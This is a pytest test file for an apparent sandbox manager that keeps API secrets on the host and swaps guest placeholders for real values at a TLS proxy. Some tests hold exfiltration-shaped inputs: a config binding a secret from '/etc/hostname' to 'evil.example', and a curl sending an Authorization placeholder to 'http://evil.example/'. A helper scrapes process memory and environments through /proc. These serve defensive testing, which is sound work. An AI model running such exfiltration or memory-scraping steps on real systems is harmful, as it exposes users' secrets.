"""Secrets that stay on the host: a server behind TLS gets the value, and nothing of it is found in the guest, in a file or in a process but the manager."""

import os
import pathlib
import re
import secrets
import signal
import socket
import ssl
import subprocess
import threading

import pytest

import harness

NAME = "secrets"
CANARY = secrets.token_hex(32)  # 64 bytes that are nowhere by accident
OF_THE_CLIENT = secrets.token_hex(32)


class Api(threading.Thread):
    """A server behind TLS on the host's loopback that keeps what it hears and answers requests until its client ends."""

    def __init__(self, context):
        super().__init__(daemon=True)
        self.context, self.heard = context, []
        self.listener = socket.create_server(("127.0.0.1", 0))
        self.port = self.listener.getsockname()[1]
        self.start()

    def run(self):
        while True:
            try:
                connection, _ = self.listener.accept()
            except OSError:
                return
            threading.Thread(target=self.serve, args=(connection,), daemon=True).start()

    def serve(self, connection):
        try:
            with self.context.wrap_socket(connection, server_side=True) as tls:
                while request := tls.recv(16384):
                    self.heard.append(request)
                    tls.sendall(b"HTTP/1.1 200 OK\r\nContent-Length: 3\r\n\r\napi")
        except OSError:
            pass


@pytest.fixture(scope="module")
def api(home):
    folder = home.folder / "world"
    folder.mkdir(exist_ok=True)
    subprocess.run(["openssl", "req", "-x509", "-newkey", "rsa:2048", "-nodes", "-days", "2", "-subj", "/CN=localhost", "-addext",
                    "subjectAltName=DNS:localhost", "-keyout", folder / "key.pem", "-out", folder / "cert.pem"], check=True, capture_output=True)
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
    context.load_cert_chain(folder / "cert.pem", folder / "key.pem")
    served = Api(context)
    yield served
    served.listener.close()


@pytest.fixture(scope="module")
def agentvm(home):
    """The host believes the test's server; the guest does not."""
    plain = home.environment
    home.environment = lambda: plain() | {"SSL_CERT_FILE": str(home.folder / "world" / "cert.pem")}
    return harness.Agentvm(home)


@pytest.fixture(scope="module")
def config(home, api):
    vault = pathlib.Path("/tmp") / f"avm-vault-{os.getpid()}"  # what is searched for the canary is not where it comes from
    vault.mkdir(mode=0o700)
    (vault / "key").write_text(CANARY + "\n")
    path = home.folder / "config" / "agentvm" / "config.yaml"
    path.write_text(path.read_text() + f"""egress:
  presets: []
  grants: ['localhost:{api.port}']
  secrets:
    API_KEY: {{hosts: 'localhost:{api.port}', from: 'file:{vault}/key', shape: 'sk-test-{{}}', header: [Authorization, x-api-key]}}
    FROM_CLIENT: {{hosts: 'localhost:{api.port}', from: 'env:CLIENT_KEY', header: x-client}}
    BROKEN: {{hosts: 'localhost:{api.port}', from: 'command:echo {CANARY[:8]}; exit 3', header: x-broken}}
""")
    yield path
    (vault / "key").unlink()
    vault.rmdir()


@pytest.fixture(scope="module")
def box(agentvm, home, config):
    repository = harness.make_repository(home.folder / "project")
    agentvm.run("list")  # the manager is there already, without the client's variable
    agentvm.run("start", repository, "--name", NAME, "--no-attach", "--memory", "1G", env={"CLIENT_KEY": OF_THE_CLIENT}, timeout=harness.START_SECONDS)
    return NAME


def ask(agentvm, port, *headers, url=""):
    """What curl in the guest reads; `headers` as its shell reads them."""
    words = " ".join(f'-H "{header}"' for header in headers)
    script = f"curl -sS --max-time 60 --noproxy '' --proxy http://127.0.0.1:3128 {words} {url or f'https://localhost:{port}/'} 2>&1"
    return agentvm.exec(NAME, "sh", "-c", script)


def test_the_plan_says_whose_tls_is_ended_and_why(agentvm, home, api, config):
    repository = harness.make_repository(home.folder / "other")
    plan = agentvm.json("plan", repository)
    assert plan["egress"]["secrets"][0] == {"name": "API_KEY", "hosts": [f"localhost:{api.port}"], "env": "API_KEY",
                                            "header": ["Authorization", "x-api-key"], "source": "file", "requests": []}
    text = agentvm.text("plan", repository)
    assert f"TLS to localhost:{api.port} is ended here: API_KEY, from a file, takes the place of $API_KEY in Authorization, x-api-key" in text
    (repository / "agentvm.yaml").write_text("egress: {secrets: {API_KEY: {hosts: evil.example, from: 'file:/etc/hostname'}}}\n")
    assert b"refused in a project's file" in agentvm.run("plan", repository, code=6).stderr


def test_the_guest_has_a_placeholder_and_the_server_gets_the_value(agentvm, box, api):
    seen = agentvm.exec(box, "sh", "-c", "echo $API_KEY").strip()
    assert re.fullmatch(r"sk-test-[0-9a-f]{48}", seen)
    assert ask(agentvm, api.port, "Authorization: Bearer $API_KEY", "x-client: $FROM_CLIENT") == "api"
    assert f"Authorization: Bearer {CANARY}\r\nx-client: {OF_THE_CLIENT}\r\n".encode() in api.heard[-1]
    # Python's own TLS believes the authority too, which signs for these hosts alone.
    script = f"""
import http.client, os, ssl
c = http.client.HTTPSConnection("127.0.0.1", 3128, context=ssl.create_default_context())
c.set_tunnel("localhost", {api.port})
for i in range(2):
    c.request("GET", "/", headers={{"x-api-key": os.environ["API_KEY"]}})
    print(c.getresponse().read().decode(), dict(c.sock.getpeercert()["issuer"][0])["commonName"])
"""
    assert agentvm.exec(box, "python3", "-c", script).splitlines() == [f"api agentvm, hosts of secrets of {NAME}"] * 2
    assert CANARY.encode() in api.heard[-1]
    assert ask(agentvm, api.port, "Authorization: Bearer mine") == "api" and b"Bearer mine" in api.heard[-1]


def test_what_cannot_be_read_is_named_and_not_sent(agentvm, box, api):
    before = len(api.heard)
    answer = ask(agentvm, api.port, "x-broken: $BROKEN")
    assert "the secret BROKEN cannot be read on the host: its command ended with exit status 3" in answer
    assert CANARY[:8] not in answer and len(api.heard) == before
    state = {secret["name"]: secret for secret in agentvm.json("status", box, "--verbose")["egress"]["secrets"]}
    assert (state["API_KEY"]["state"], state["BROKEN"]["state"]) == ("ok", "failed")
    assert "API_KEY for localhost:" in agentvm.text("status", box, "--verbose")


def test_a_placeholder_that_goes_astray_is_refused_and_told(agentvm, box, api):
    assert "is none of its hosts" in ask(agentvm, 0, "Authorization: Bearer $API_KEY", url="http://evil.example/")
    assert "another header" in ask(agentvm, api.port, "x-client: $API_KEY")
    rows = harness.eventually(lambda: [row for row in agentvm.json("egress", "log", box, "--denied")["rows"] if row["cause"] == "placeholder"])
    assert {row["host"] for row in rows} >= {"evil.example"}


def test_it_goes_on_with_another_manager(agentvm, box, api):
    before = agentvm.exec(box, "sh", "-c", "echo $API_KEY")
    harness.end_manager(agentvm)
    harness.eventually(lambda: agentvm.json("status", box)["egress"]["open"], what="egress is open again")
    assert agentvm.exec(box, "sh", "-c", "echo $API_KEY") == before
    assert ask(agentvm, api.port, "Authorization: Bearer $API_KEY") == "api"
    assert CANARY.encode() in api.heard[-1]


def memory_holds(pid, needles):
    """Which of `needles` the memory of a process holds, as far as it may write there."""
    found, overlap = set(), max(map(len, needles))
    with open(f"/proc/{pid}/mem", "rb", buffering=0) as memory:
        for line in pathlib.Path(f"/proc/{pid}/maps").read_text().splitlines():
            span, rights, *rest = line.split()
            if not rights.startswith("rw") or "[v" in line:
                continue
            start, end = (int(part, 16) for part in span.split("-"))
            while start < end:
                try:
                    memory.seek(start)
                    piece = memory.read(min(end - start, 16 << 20))
                except OSError:
                    break
                if not piece:
                    break
                found |= {needle for needle in needles if needle in piece}
                start += len(piece) - (overlap if start + len(piece) < end else 0)
    return found


def test_nothing_of_it_is_found_but_in_the_manager(agentvm, box, home, api):
    assert ask(agentvm, api.port, "Authorization: Bearer $API_KEY") == "api"
    placeholder = agentvm.exec(box, "sh", "-c", "echo $API_KEY; sync").strip().encode()
    needles = {CANARY.encode(), OF_THE_CLIENT.encode()}
    said = b"".join(agentvm.run(*words).stdout for words in (("status", box, "--verbose", "--json"), ("config", "show", "--json"), ("egress", "log", box, "--each")))
    assert not [needle for needle in needles if needle in said]
    for needle in needles:
        found = subprocess.run(["grep", "-rlaF", needle.decode(), str(home.state), str(home.folder / "run"), str(home.folder / "config"),
                                str(home.folder / "tmp")], capture_output=True, text=True, check=False)
        assert found.stdout == "", found.stdout
    manager = agentvm.manager_pid()
    mine = harness.processes(home)
    emulators = [pid for pid, line in mine.items() if "qemu-system" in line]
    assert emulators and manager in mine
    for pid in mine:
        words = pathlib.Path(f"/proc/{pid}/cmdline").read_bytes()
        try:
            words += pathlib.Path(f"/proc/{pid}/environ").read_bytes()
        except PermissionError:  # virtiofsd's, which an unprivileged user's manager puts into a namespace of its own
            assert os.geteuid() != 0 and "virtiofsd" in mine[pid], mine[pid]
        assert not [needle for needle in needles if needle in words], mine[pid]
    for pid in emulators:  # the guest's memory is in there: its placeholder is the proof
        assert memory_holds(pid, needles | {placeholder}) == {placeholder}
    if os.geteuid() == 0:
        assert CANARY.encode() in memory_holds(manager, needles)  # so that the search is known to find
    limits = pathlib.Path(f"/proc/{manager}/limits").read_text()
    assert re.search(r"Max core file size +0 +0 ", limits)


def test_a_cap_limits_what_may_be_taken_of_a_host(agentvm, box, home, api, config):
    config.write_text(config.read_text() + f"  caps: ['localhost:{api.port} 3 requests/hour', 'localhost:{api.port} 1G bytes/day']\n")
    text = agentvm.text("plan", home.folder / "project")
    assert f"no more than localhost:{api.port} 3 requests/hour" in text
    agentvm.run("stop", box)
    agentvm.run("start", home.folder / "project", "--no-attach", env={"CLIENT_KEY": OF_THE_CLIENT}, timeout=harness.START_SECONDS)
    requests = agentvm.json("status", box)["egress"]["caps"][0]
    # Earlier tests of this file asked more than that within the hour: the journal says so.
    assert requests["cap"] == f"localhost:{api.port} 3 requests/hour" and requests["used"] >= 3 and 0 < requests["seconds"] <= 3660
    heard = len(api.heard)
    refused = ask(agentvm, api.port, "X-Plain: 1")
    assert f"the cap 'localhost:{api.port} 3 requests/hour' is reached; there is room again in" in refused, refused
    assert len(api.heard) == heard
    code = agentvm.exec(box, "curl", "-s", "-o", "/dev/null", "-w", "%{http_code}", f"https://localhost:{api.port}/", "--noproxy", "", "--proxy", "http://127.0.0.1:3128")
    assert code == "429"
    os.kill(agentvm.manager_pid(), signal.SIGKILL)
    harness.eventually(lambda: agentvm.json("status", box)["egress"]["caps"], what="the caps of a new manager")
    assert agentvm.json("status", box)["egress"]["caps"][0]["used"] >= 3
    shown = agentvm.text("status", box)
    assert re.search(rf"Cap: +localhost:{api.port} 3 requests/hour: [0-9]+ taken, nothing more for ", shown), shown
    assert agentvm.json("egress", "log", box, "--denied")["rows"][-1]["cause"] == "cap"
